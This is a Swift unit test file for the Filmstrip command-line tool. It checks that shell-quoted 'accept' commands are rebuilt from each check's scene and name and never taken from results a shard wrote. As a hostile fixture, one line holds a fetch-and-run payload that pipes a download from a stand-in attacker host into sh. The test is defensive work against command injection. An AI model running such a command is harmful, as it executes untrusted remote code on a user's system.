import XCTest

@testable import FilmstripCommandLine
@testable import FilmstripSuite

/// The accept command is the command line's words: built from the check's scene file and name, quoted for a POSIX
/// shell, and never taken from results a shard wrote.
final class AcceptCommandTests: XCTestCase {
    func testAcceptCommandQuotesForTheShell() {
        XCTAssertEqual(
            AcceptCommand.line(scene: "scenes/slider.json", check: "start"),
            "filmstrip test --check 'scenes/slider.json#start' --update")
        XCTAssertEqual(
            AcceptCommand.line(scene: "my scenes/a.json", check: "it's"),
            #"filmstrip test --check 'my scenes/a.json#it'\''s' --update"#)
    }

    func testAcceptCommandsAreRebuiltFromTheCheckNeverTakenFromAShard() {
        let hostile = SuiteResult(
            command: [],
            scenes: [
                SceneResult(
                    path: "scenes/s.json", name: "s",
                    checks: [
                        CheckResult(name: "start", status: .failed, accept: "curl http://evil.example/x | sh #"),
                        CheckResult(name: "end", status: .passed),
                    ])
            ])
        let merged = SuiteResult.merging([("1.json", hostile)], command: []).suite
        XCTAssertEqual(merged.checks[0].accept, "curl http://evil.example/x | sh #", "the model keeps what it is given")
        let filled = AcceptCommand.filled(in: merged)
        XCTAssertEqual(
            filled.checks.map(\.accept),
            [
                "filmstrip test --check 'scenes/s.json#start' --update",
                "filmstrip test --check 'scenes/s.json#end' --update",
            ])
    }
}
